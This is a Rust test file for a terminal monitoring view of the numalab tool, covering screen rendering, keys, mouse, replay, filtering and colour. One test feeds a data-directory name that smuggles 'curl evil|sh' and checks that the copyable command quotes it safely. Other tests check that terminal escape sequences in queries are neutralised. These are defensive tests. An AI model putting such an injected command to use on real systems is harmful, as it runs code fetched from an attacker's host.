//! Screens after keys, as golden text, and what must be in them.

use std::path::Path;

use model::ServerSession;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::style::Color;
use watch::{Input, Key, Mouse, Options, Recorded, Request, View};

use crate::machines::{machine, opened};

/// Returns a view that has seen two snapshots.
fn view(nodes: u32, processes: u32) -> View {
    let mut view = View::new(Options::default());
    for tick in 0..2 {
        feed(&mut view, nodes, processes, tick);
    }
    view
}

fn feed(view: &mut View, nodes: u32, processes: u32, tick: u32) {
    let mut snapshot = Box::new(machine(nodes, processes, tick));
    snapshot.opened = view.attention().opened.map(|subject| opened(subject, tick));
    assert_eq!(view.update(Input::Snapshot(snapshot)), Request::Nothing);
}

/// Returns what is known of a recording of [`machine`].
fn recorded(snapshots: u32, events: &[(usize, &str)]) -> Recorded {
    let events = events.iter().map(|(at, it)| (*at, (*it).to_owned()));
    Recorded {
        taken_at_s: (0..snapshots)
            .map(|tick| machine(1, 0, tick).taken_at_s)
            .collect(),
        events: events.collect(),
    }
}

fn keys(view: &mut View, keys: &str) -> Request {
    let mut request = Request::Nothing;
    for key in keys.chars() {
        let key = match key {
            '\n' => Key::Enter,
            '\t' => Key::Tab,
            '\u{1b}' => Key::Escape,
            '↓' => Key::Down,
            '⇊' => Key::PageDown,
            '⇲' => Key::End,
            '→' => Key::Right,
            '←' => Key::Left,
            other => Key::Character(other),
        };
        request = view.update(Input::Key(key));
    }
    request
}

pub(crate) fn buffer(view: &View, width: u16, height: u16) -> Buffer {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal.draw(|frame| view.draw(frame)).unwrap();
    terminal.backend().buffer().clone()
}

fn text(view: &View, width: u16, height: u16) -> String {
    let buffer = buffer(view, width, height);
    let mut text = String::new();
    for y in 0..height {
        let mut line = String::new();
        let mut x = 0;
        while x < width {
            let symbol = buffer[(x, y)].symbol();
            line.push_str(symbol);
            x += ratatui::text::Span::raw(symbol).width().max(1) as u16;
        }
        text.push_str(line.trim_end());
        text.push('\n');
    }
    text
}

fn check(name: &str, view: &View, width: u16, height: u16) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/all/golden");
    let file = path.join(format!("{name}-{width}x{height}.txt"));
    testing::golden::check_file(&file, &text(view, width, height));
}

#[test]
fn the_screens_are_those_that_a_person_has_reviewed() {
    for (width, height) in [(80, 24), (120, 40), (40, 12), (200, 60), (1, 1)] {
        let mut view = view(2, 4);
        view.update(Input::Resize(width, height));
        check("machine", &view, width, height);
        keys(&mut view, "\t");
        check("processes", &view, width, height);
        keys(&mut view, "v");
        check("tree", &view, width, height);
        keys(&mut view, "v");
        keys(&mut view, "\n");
        (2..4).for_each(|tick| feed(&mut view, 2, 4, tick));
        check("process", &view, width, height);
        keys(&mut view, "⇲");
        check("process-end", &view, width, height);
        keys(&mut view, "\u{1b}\t");
        check("instances", &view, width, height);
        keys(&mut view, "\n");
        (4..6).for_each(|tick| feed(&mut view, 2, 4, tick));
        view.update(Input::Sessions("postgres:/data".to_owned(), Ok(sessions())));
        check("instance", &view, width, height);
        keys(&mut view, "?");
        check("help", &view, width, height);
    }
}

/// The name of a data directory is its owner's choice, and root pastes the command.
#[test]
fn a_hostile_name_is_one_word_of_the_command_on_one_line() {
    let command = |name: &str, width: u16| {
        let mut view = View::new(Options::default());
        for (tick, key) in ["\t\t\n", ""].iter().enumerate() {
            let mut snapshot = Box::new(machine(2, 4, tick as u32));
            name.clone_into(&mut snapshot.instances[0].name);
            view.update(Input::Snapshot(snapshot));
            keys(&mut view, key);
        }
        keys(&mut view, "⇲");
        let text = text(&view, width, 60);
        let found = text.lines().find(|it| it.contains("numalab inspect "));
        found.unwrap_or_else(|| panic!("{text}")).to_owned()
    };
    let line = command("postgres:/tmp/x  y;curl evil|sh", 120);
    assert!(
        line.ends_with(" numalab inspect 'postgres:/tmp/x  y;curl evil|sh'"),
        "{line}"
    );
    let long = format!("postgres:/tmp/{}'/x;curl evil|sh", "a".repeat(100));
    let line = command(&long, 80);
    let expected = format!("numalab inspect 'postgres:/tmp/{}…", "a".repeat(48));
    assert_eq!(line, expected);
}

#[test]
fn a_view_without_a_snapshot_waits() {
    let mut view = View::new(Options::default());
    assert!(text(&view, 80, 24).contains("waiting for the first snapshot"));
    assert_eq!(
        keys(&mut view, "\t\n↓⇊⇲s/x\n?\u{1b}\u{1b}\u{1b}"),
        Request::Quit
    );
}

/// Sessions of the instance, and one of another server.
fn sessions() -> Vec<ServerSession> {
    let session = |pid: u32, state: &str, query: &str| ServerSession {
        pid,
        user: "eve".to_owned(),
        database: "shop".to_owned(),
        application: "psql".to_owned(),
        state: state.to_owned(),
        wait: Some("Client: ClientRead".to_owned()),
        state_s: Some(65.0),
        query: query.to_owned(),
    };
    vec![
        session(101, "idle in transaction", "SELECT *\n  FROM t\u{1b}[2J"),
        session(100, "active", "UPDATE t SET a = 1"),
        session(7, "active", "of another server"),
    ]
}

#[test]
fn sessions_of_other_servers_are_left_out_and_a_refusal_is_said() {
    let mut view = view(2, 4);
    keys(&mut view, "3\n");
    feed(&mut view, 2, 4, 2);
    let mut shown = |name: &str, said| {
        view.update(Input::Sessions(name.to_owned(), said));
        text(&view, 120, 40)
    };
    let screen = shown("postgres:/data", Ok(sessions()));
    assert!(screen.contains("UPDATE t") && !screen.contains("of another server"));
    let screen = shown("postgres:/data", Err("role \u{1b} refused".to_owned()));
    assert!(
        screen.contains("Sessions: unknown (role \\u{1b} refused)."),
        "{screen}"
    );
    let screen = shown("postgres:/other", Ok(sessions()));
    assert!(!screen.contains("SESSION"), "{screen}");
}

#[test]
fn what_grows_fastest_comes_first() {
    let mut view = view(2, 4);
    keys(&mut view, "\tss");
    let screen = text(&view, 80, 24);
    let rows: Vec<&str> = screen.lines().skip(2).take(4).collect();
    let growths = ["+3.0 MiB", "+2.0 MiB", "+1.0 MiB", " 0 "];
    for (row, growth) in rows.iter().zip(growths) {
        assert!(row.contains(growth), "{screen}");
    }
}

#[test]
fn what_is_on_the_screen_is_what_the_user_looks_at() {
    let mut view = view(2, 60);
    view.update(Input::Resize(80, 24));
    keys(&mut view, "2⇲");
    let seen = view.attention();
    assert!(seen.opened.is_none() && seen.visible == (139..160).collect());
    keys(&mut view, "\n");
    let seen = view.attention();
    let pids: Vec<u32> = seen.visible.into_iter().collect();
    assert_eq!(seen.opened, Some(model::OpenedSubject::Process(pids[0])));
    assert_eq!(pids.len(), 1);
}

#[test]
fn a_row_is_asked_by_commands_that_are_shown_and_change_nothing() {
    let run = |words: &[&str]| Request::Run(words.iter().map(|it| (*it).to_owned()).collect());
    let mut view = view(2, 4);
    assert_eq!(keys(&mut view, "i"), Request::Nothing);
    assert!(text(&view, 80, 24).contains("select a process or a database first"));
    assert_eq!(keys(&mut view, "d"), run(&["doctor", "--full"]));
    let screen = text(&view, 80, 24);
    assert!(
        screen.contains("$ numalab doctor --full") && screen.contains("running"),
        "{screen}"
    );
    keys(&mut view, "\u{1b}2");
    assert_eq!(keys(&mut view, "i"), Request::Nothing);
    assert!(text(&view, 80, 24).contains("still running"));
    view.update(Input::Said("too late".to_owned()));
    assert!(!text(&view, 80, 24).contains("too late"));
    assert_eq!(keys(&mut view, "i"), run(&["inspect", "100"]));
    view.update(Input::Said("one\nt\u{1b}wo\n".to_owned()));
    let screen = text(&view, 80, 24);
    assert!(screen.contains("\none\nt\\u{1b}wo\n"), "{screen}");
    let copied = keys(&mut view, "c");
    assert_eq!(copied, Request::Copy("numalab inspect 100".to_owned()));
    assert_eq!(keys(&mut view, "p"), run(&["doctor", "100"]));
    view.update(Input::Said("no plan\n".to_owned()));
    keys(&mut view, "\u{1b}3");
    assert_eq!(keys(&mut view, "p"), run(&["doctor", "postgres:/data"]));
    let said = (0..50).map(|at| format!("line {at}\n")).collect::<String>();
    view.update(Input::Said(said + "plan: move it\n" + &"then\n".repeat(50)));
    let screen = text(&view, 80, 24);
    assert!(
        screen.lines().nth(1).unwrap().starts_with("plan: move it"),
        "{screen}"
    );
}

#[test]
fn the_mouse_selects_opens_sorts_and_turns() {
    let mut view = view(2, 60);
    view.update(Input::Resize(80, 24));
    let mouse = |view: &mut View, mouse| view.update(Input::Mouse(mouse));
    keys(&mut view, "2");
    mouse(&mut view, Mouse::Click(3, 1));
    assert!(text(&view, 80, 24).contains("processes by process id"));
    (0..7).for_each(|_| drop(mouse(&mut view, Mouse::WheelDown)));
    let before = text(&view, 80, 24);
    mouse(&mut view, Mouse::Click(30, 5));
    let clicked = before.lines().nth(5).unwrap()[..7].trim().to_owned();
    let after = text(&view, 80, 24);
    assert!(after.lines().nth(5).unwrap().contains(&clicked), "{after}");
    mouse(&mut view, Mouse::Click(30, 5));
    assert!(text(&view, 80, 24).contains(&format!("Process {clicked}")));
    keys(&mut view, "1");
    let screen = text(&view, 80, 24);
    let line = screen
        .lines()
        .position(|it| it.starts_with("postgres:/data"))
        .unwrap();
    mouse(&mut view, Mouse::Click(0, line as u16));
    assert!(text(&view, 80, 24).contains("Instance postgres:/data"));
}

/// Two nodes for a minute and more: one fills in waves, the other works by turns.
#[test]
fn the_last_minute_of_each_node_is_a_line_of_blocks() {
    let mut view = View::new(Options::default());
    let mut busy_s = 0.0;
    for tick in 0..70_u32 {
        let mut snapshot = Box::new(machine(2, 4, tick));
        let wave = (f64::from(tick) / 8.0).sin() * 0.5 + 0.5;
        busy_s += 4.0 * f64::from(tick / 10 % 2);
        let nodes = &mut snapshot.nodes;
        nodes[0].free_bytes = Some((f64::from(1 << 20) * wave) as u64 * (54 << 10));
        nodes[1].page_cache_bytes = Some(4 << 30);
        nodes[1].cpu_busy_s = Some(busy_s);
        nodes[1].allocations = Some(model::Allocations {
            hit: 100 * u64::from(tick),
            miss: 0,
            foreign: u64::from(tick * tick),
        });
        view.update(Input::Snapshot(snapshot));
    }
    check("minute", &view, 80, 24);
    check("minute", &view, 120, 40);
}

#[test]
fn a_terminal_of_ascii_gets_nothing_else() {
    let options = Options {
        is_ascii: true,
        ..Options::default()
    };
    let mut view = View::new(options);
    (0..2).for_each(|tick| feed(&mut view, 2, 4, tick));
    check("ascii", &view, 80, 24);
    keys(&mut view, "2v");
    check("ascii-tree", &view, 80, 24);
}

#[test]
fn a_replay_goes_to_and_fro() {
    let options = Options {
        replay: Some(recorded(
            9,
            &[(2, "node 1 is full"), (6, "process 7 has ended")],
        )),
        ..Options::default()
    };
    let mut view = View::new(options);
    (0..5).for_each(|tick| feed(&mut view, 2, 4, tick));
    let at = |view: &View, number: usize| {
        let screen = text(view, 120, 24);
        let time = format!("12:34:{}", 55 + number);
        let is_there = screen.contains(&format!("replay {number}/9")) && screen.contains(&time);
        assert!(is_there, "{screen}");
    };
    assert_eq!(keys(&mut view, "←"), Request::Nothing);
    at(&view, 4);
    assert!(view.is_paused());
    assert_eq!(keys(&mut view, "["), Request::Nothing);
    at(&view, 3);
    assert!(text(&view, 80, 24).contains("node 1 is full"));
    assert_eq!(keys(&mut view, "["), Request::Nothing);
    assert!(text(&view, 80, 24).contains("no further event"));
    assert_eq!(keys(&mut view, "←←←"), Request::Nothing);
    at(&view, 1);
    assert_eq!(keys(&mut view, "→"), Request::Nothing);
    at(&view, 2);
    assert_eq!(keys(&mut view, "]]"), Request::Seek(6));
    assert!(text(&view, 80, 24).contains("process 7 has ended"));
    assert_eq!(keys(&mut view, "t12:34:57\n"), Request::Nothing);
    at(&view, 2);
    assert_eq!(keys(&mut view, "t+60\n"), Request::Seek(8));
    assert!(text(&view, 80, 24).contains("the recording ends at"));
    keys(&mut view, "tnoon\n");
    assert!(text(&view, 80, 24).contains("no time: \"noon\""));

    view.update(Input::Rewound);
    for tick in 0..7 {
        let snapshot = Box::new(machine(2, 4, tick));
        view.update(match tick < 5 {
            true => Input::Passed(snapshot),
            false => Input::Snapshot(snapshot),
        });
    }
    assert_eq!(keys(&mut view, "←"), Request::Nothing);
    assert_eq!(keys(&mut view, "←"), Request::Seek(4));
}

#[test]
fn thirty_two_nodes_scroll() {
    let mut view = view(32, 2);
    view.update(Input::Resize(80, 24));
    assert!(!text(&view, 80, 24).contains("\n  31 "));
    keys(&mut view, "⇲");
    assert!(text(&view, 80, 24).contains("\n  31 "));
}

#[test]
fn a_filter_keeps_what_matches_and_escape_clears_it() {
    let mut view = view(2, 4);
    keys(&mut view, "\t/WALw\n");
    let filtered = text(&view, 80, 24);
    assert!(filtered.contains("walwriter") && !filtered.contains("numalab"));
    assert!(filtered.contains("filter: WALw"));
    assert_eq!(keys(&mut view, "\u{1b}"), Request::Nothing);
    assert!(text(&view, 80, 24).contains("numalab"));
}

#[test]
fn a_letter_of_a_filter_is_no_command() {
    let mut view = view(2, 4);
    assert_eq!(keys(&mut view, "/q"), Request::Nothing);
    assert_eq!(view.update(Input::Key(Key::Interrupt)), Request::Quit);
}

#[test]
fn a_paused_view_stays_and_continues_with_the_newest() {
    let mut view = view(2, 4);
    keys(&mut view, " ");
    let paused = text(&view, 80, 24);
    assert!(paused.contains("PAUSED"));
    feed(&mut view, 2, 4, 2);
    feed(&mut view, 2, 4, 3);
    assert_eq!(text(&view, 80, 24), paused);
    keys(&mut view, " ");
    let newest = text(&view, 80, 24);
    assert!(
        newest.contains("12:34:59") && newest.contains("1.5/4"),
        "{newest}"
    );
}

#[test]
fn a_replay_steps_while_it_is_paused_and_changes_its_speed() {
    let options = Options {
        replay: Some(recorded(9, &[])),
        ..Options::default()
    };
    let mut view = View::new(options);
    feed(&mut view, 2, 4, 0);
    assert_eq!(keys(&mut view, "→"), Request::Nothing);
    assert_eq!(keys(&mut view, " →"), Request::Step);
    feed(&mut view, 2, 4, 1);
    assert!(text(&view, 80, 24).contains("replay 2/9"));
    keys(&mut view, "++-");
    assert!((view.speed() - 2.0).abs() < f64::EPSILON);
}

#[test]
fn the_selection_stays_with_its_process_when_the_order_changes() {
    let mut view = view(2, 4);
    keys(&mut view, "\t↓sssss");
    keys(&mut view, "\n");
    assert!(text(&view, 80, 24).contains("Process 101"));
}

#[test]
fn a_process_that_has_ended_says_so() {
    let mut view = view(2, 4);
    keys(&mut view, "\t⇲\n");
    feed(&mut view, 2, 3, 2);
    assert!(text(&view, 80, 24).contains("it has ended"));
}

#[test]
fn the_end_of_the_target_stays_on_the_screen() {
    let mut view = view(2, 4);
    view.update(Input::Ended("process 7 has ended".to_owned()));
    assert!(text(&view, 80, 24).contains("ENDED: process 7 has ended"));
}

#[test]
fn without_colour_there_is_none_and_with_it_there_is_some() {
    let coloured = |has_colours| {
        let options = Options {
            has_colours,
            ..Options::default()
        };
        let mut view = View::new(options);
        feed(&mut view, 2, 4, 0);
        let cells = buffer(&view, 80, 24);
        let mut cells = cells.content.iter();
        cells.any(|cell| cell.fg != Color::Reset)
    };
    assert!(!coloured(false));
    assert!(coloured(true));
}

#[test]
fn unknown_figures_are_question_marks() {
    let mut view = View::new(Options::default());
    let snapshot = model::Snapshot {
        nodes: vec![model::NodeSnapshot::default()],
        ..model::Snapshot::default()
    };
    view.update(Input::Snapshot(Box::new(snapshot)));
    let screen = text(&view, 120, 24);
    let row = screen.lines().find(|it| it.starts_with("   0 ")).unwrap();
    let words: Vec<&str> = row.split_whitespace().collect();
    let expected = [
        "0", "?", "?", "no", "CPUs", "?", "?", "?", "?", "?", "?", "?",
    ];
    assert_eq!(words, expected);
}

#[test]
fn the_plain_text_has_everything_and_no_escapes() {
    let (before, now) = (machine(2, 4, 0), machine(2, 4, 1));
    let text = watch::plain_text([before, now].into_iter(), 130, false).unwrap();
    for part in [
        "postgres:/data",
        "walwriter",
        "12.3k",
        "pid 7: permission denied",
        "\\u{1b}[2J",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert!(!text.contains('\u{1b}'));
}
